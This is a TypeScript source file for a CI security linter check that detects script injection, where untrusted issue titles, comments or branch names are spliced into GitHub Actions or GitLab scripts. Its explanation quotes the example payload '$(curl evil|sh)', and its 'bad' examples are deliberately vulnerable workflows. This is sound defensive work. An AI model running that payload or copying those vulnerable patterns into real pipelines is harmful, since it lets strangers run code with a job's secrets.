import type { Pipeline, Template } from "../../../model/pipeline.ts";
import type { ShellCommand, ShellWord } from "../../../model/shell.ts";
import type { CheckOf } from "../../../stages/check/contract.ts";
import { actionName } from "../shared/action-name.ts";
import { gitlab, steps, workflow } from "../shared/pipeline-examples.ts";
import { commandsOf, PipelineSaid, stepsOf, type WithinScript } from "../shared/pipeline-said.ts";
import { controls } from "../shared/said.ts";
import { CODE_INPUTS } from "../shared/strangers.data.ts";
import { areHarmless } from "../shared/strangers-reach.ts";
import {
  strangersEventsOf,
  strangersTextsIn,
  variablesIn,
  type Within,
} from "../shared/strangers-texts.ts";

export const noScriptInjection: CheckOf<Pipeline> = {
  id: "no-script-injection",
  title: "no text of strangers becomes part of a script",
  severity: "high",
  why: "expressions are filled in before the shell reads the script, so a title such as $(curl evil|sh) is run with the job's token and secrets",
  fix: 'hand the text over in a variable of env, and write "$TITLE" in the script',
  controls: controls({ "owasp-cicd": ["CICD-SEC-4"], attack: ["T1059", "T1195.002"] }),
  aspects: { harmless: { severity: "medium" } },
  needs: [],
  state: "stable",
  appliesTo: "pipeline",
  examples: {
    bad: [
      steps("issues", { run: 'echo "${{ github.event.issue.title }}"' }),
      steps("pull_request", { run: "git checkout ${{ github.head_ref }}" }),
      steps("issue_comment", {
        uses: "actions/github-script@v7",
        with: { script: "console.log(`${{ github.event.comment.body }}`)" },
      }),
      workflow({
        on: { issues: { types: ["opened"] } },
        env: { TITLE: "${{ github.event.issue.title }}" },
        jobs: { build: { "runs-on": "ubuntu-24.04", steps: [{ run: "echo ${{ env.TITLE }}" }] } },
      }),
      steps(["pull_request_target"], { run: "echo '${{ toJSON(github.event) }}'" }),
      steps("issues", { run: 'eval "$T"', env: { T: "${{ github.event.issue.title }}" } }),
      steps(
        "pull_request_target",
        { id: "get", run: 'echo "name=$GITHUB_HEAD_REF" >> "$GITHUB_OUTPUT"' },
        { run: "echo ${{ steps.get.outputs.name }}" },
      ),
      gitlab({ script: ['bash -c "echo $CI_COMMIT_MESSAGE"'] }),
    ],
    good: [
      gitlab({ script: ['echo "$CI_COMMIT_MESSAGE"'] }),
      steps("issues", {
        run: 'echo "$TITLE"',
        env: { TITLE: "${{ github.event.issue.title }}" },
      }),
      steps("issues", { run: "echo ${{ github.event.issue.number }}" }),
      steps("issues", { run: "echo ${{ contains(github.event.issue.title, 'bug') }}" }),
      steps("pull_request", {
        if: "github.event.pull_request.head.repo.full_name == github.repository",
        run: "echo ${{ github.head_ref }}",
      }),
    ],
  },
  versions: [
    {
      from: 0,
      run: (pipeline) => {
        const said = new PipelineSaid();
        for (const within of stepsOf(pipeline))
          for (const template of codeOf(within)) look(template, within, said);
        for (const within of commandsOf(pipeline, said)) lookAtCommand(within, said);
        return said.all;
      },
    },
  ],
};

/** What a step runs as code: its script, its shell, and inputs that its action runs. */
function codeOf({ step }: { readonly step: Within["step"] }): Template[] {
  if (step === null) return [];
  const names = CODE_INPUTS.get(actionName(step.uses) ?? "") ?? [];
  const inputs = step.with.filter(({ name }) => names.includes(name)).map(({ value }) => value);
  return [step.run, step.shell, ...inputs].filter((template) => template !== null);
}

function look(template: Template, within: Within, said: PipelineSaid): void {
  for (const { name, events } of strangersTextsIn(template, within)) {
    const aspect = areHarmless(events) || isMerged(events) ? { aspect: "harmless" } : {};
    const state = `puts ${name} into a script, which strangers write`;
    said.fault(within.job, template.at, state, { value: `\${{ ${name} }}`, ...aspect });
  }
  const broken = template.holes.find(({ expression }) => expression === null);
  if (broken === undefined) return;
  const text = template.value.slice(broken.start, broken.end).slice(0, 60);
  said.doubt(within.job, template.at, `the expression ${text} cannot be read`);
}

/** Programs that run a text that they are given. */
const EVALUATORS: ReadonlySet<string> = new Set(["eval", "source", "."]);
const INTERPRETERS = /^(?:(?:ba|da|z|k|a)?sh|python[\d.]*|perl|ruby|node|php|pwsh|powershell)$/;

function lookAtCommand(within: WithinScript, said: PipelineSaid): void {
  const { command, job } = within;
  for (const word of codeWords(command))
    for (const name of variablesIn(word)) {
      const events = strangersEventsOf(name, within);
      if (events.length === 0) continue;
      const aspect = areHarmless(events) || isMerged(events) ? { aspect: "harmless" } : {};
      const state = `runs $${name} by ${command.name}, which strangers write`;
      said.fault(job, command.at, state, { value: `$${name}`, ...aspect });
    }
}

function codeWords({ name, words }: ShellCommand): readonly ShellWord[] {
  if (name === null) return [];
  if (EVALUATORS.has(name)) return words;
  if (!INTERPRETERS.test(name)) return [];
  const option = words.findIndex(({ value }) => /^-(?:\w*c|e|r|Command)$/.test(value));
  return option === -1 ? [] : words.slice(option + 1, option + 2);
}

/** Somebody with rights has looked at the commit before. */
function isMerged(events: readonly string[]): boolean {
  return events.every((event) => event === "push" || event === "merge_group");
}
